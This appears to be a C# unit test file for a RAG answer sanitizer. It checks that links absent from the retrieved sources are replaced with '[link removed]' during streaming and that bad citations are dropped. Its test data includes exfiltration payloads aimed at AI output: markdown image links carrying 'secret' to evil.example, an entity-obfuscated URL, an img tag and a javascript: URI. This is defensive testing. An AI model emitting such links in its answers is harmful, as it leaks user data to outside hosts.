using Rag.Answering;
using Rag.Prompting;
using Rag.Retrieval;
using Rag.Tests.Fakes;

namespace Rag.Tests.Answering;

public sealed class AnswerSanitizerTests
{
    private static readonly PromptSource[] Sources =
    [
        .. new[] { "See https://good.example/a?x=1. Nothing else.", "Second." }.Select((text, i) =>
        {
            RetrievedChunk chunk = Retrieved.Chunk(text);
            return new PromptSource(i + 1, chunk, chunk.Chunk.Range);
        }),
    ];

    private static string Stream(string text, int piece)
    {
        AnswerSanitizer sanitizer = new(Sources);
        return string.Concat(text.Chunk(piece).Select(part => sanitizer.Push(new string(part)))) + sanitizer.Flush();
    }

    [Theory]
    [InlineData("Plain text, nothing to do. [1]", "Plain text, nothing to do. [1]")]
    [InlineData("See https://good.example/a?x=1 [1]", "See https://good.example/a?x=1 [1]")]
    [InlineData("See (https://good.example/a?x=1).", "See (https://good.example/a?x=1).")]
    [InlineData("See https://good.example/a?x=12 now", "See [link removed] now")]
    [InlineData("See https://good.example/a now.", "See [link removed] now.")]
    [InlineData("![pixel](https://evil.example/?q=secret)", "[pixel]([link removed])")]
    [InlineData("![a][b]\n\n[b]: https://evil.example/x", "[a][b]\n\n[b] : [link removed]")]
    [InlineData("![a](/local?q=secret)", "[a]([link removed])")]
    [InlineData("[a](&#104;ttps://evil.example)", "[a]([link removed])")]
    [InlineData("[a]( &#104;ttps://evil.example)", "[a] ( &#104;[link removed])")]
    [InlineData("<img src=//evil.example/x>", "‹img src=[link removed]>")]
    [InlineData("javascript:alert(1) done", "[link removed]) done")]
    [InlineData("HTTPS:\\\\evil.example\\x", "[link removed]")]
    [InlineData("www.evil.example", "[link removed]")]
    [InlineData("한국어https://evil.example/한국어", "한국어[link removed]한국어")]
    [InlineData("List<int> a = b[0]; x:y 3:4", "List<int> a = b; x:y 3:4")]
    [InlineData("True [1], false [9], both [2, 9].", "True [1], false, both [2].")]
    [InlineData("그것은 참이다 [1]. 日本語[2]です。", "그것은 참이다 [1]. 日本語[2]です。")]
    public void Stream_AnyPieces_GiveTheSameCleanText(string text, string expected)
    {
        foreach (int piece in new[] { 1, 2, 3, 7, 1000 })
        {
            Assert.Equal(expected, Stream(text, piece));
        }
    }

    [Fact]
    public void Push_WholeWords_ComeOutAtOnce()
    {
        AnswerSanitizer sanitizer = new(Sources);
        Assert.Equal("Hello", sanitizer.Push("Hello wor"));
        Assert.Equal(" world,", sanitizer.Push("ld, and"));
    }
}
